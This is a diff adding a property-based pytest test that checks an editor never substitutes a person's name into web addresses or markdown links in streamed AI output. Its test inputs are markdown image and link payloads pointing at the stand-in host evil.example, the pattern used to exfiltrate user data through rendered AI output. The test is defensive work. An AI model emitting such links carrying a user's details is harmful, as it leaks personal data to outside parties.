@@ -164,6 +164,24 @@ def test_words_that_cannot_change_any_more_are_passed_on_at_once():
     assert said(editor.feed(Delta("ur name] now", Origin.CLOUD))) == "Eva Sol now"
 
 
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![x](https://evil.example/?n=[Your Name])",
+        "[x](<https://evil.example/ [Your Name]>)",
+        "See https://evil.example/[Your Name] there",
+        "https://evil.example/?q= [Your Name]",
+        "www.evil.example?[Your name]",
+        "[Your Name](https://evil.example)",
+        "[Your Name]: https://evil.example",
+        "a[Your Name]",
+    ],
+)
+@given(cuts=st.lists(st.integers(0, 40), max_size=4))
+def test_nothing_of_the_person_is_put_into_an_address(answer, cuts):
+    assert said(edited(answer, [cut for cut in cuts if cut < len(answer)])) == answer
+
+
 def test_what_the_person_wrote_himself_stays():
     assert said(edited("Dear Ann,\n\nCome.", own="Correct this: Dear Ann,\n\nCome.")).startswith("Dear Ann")
 
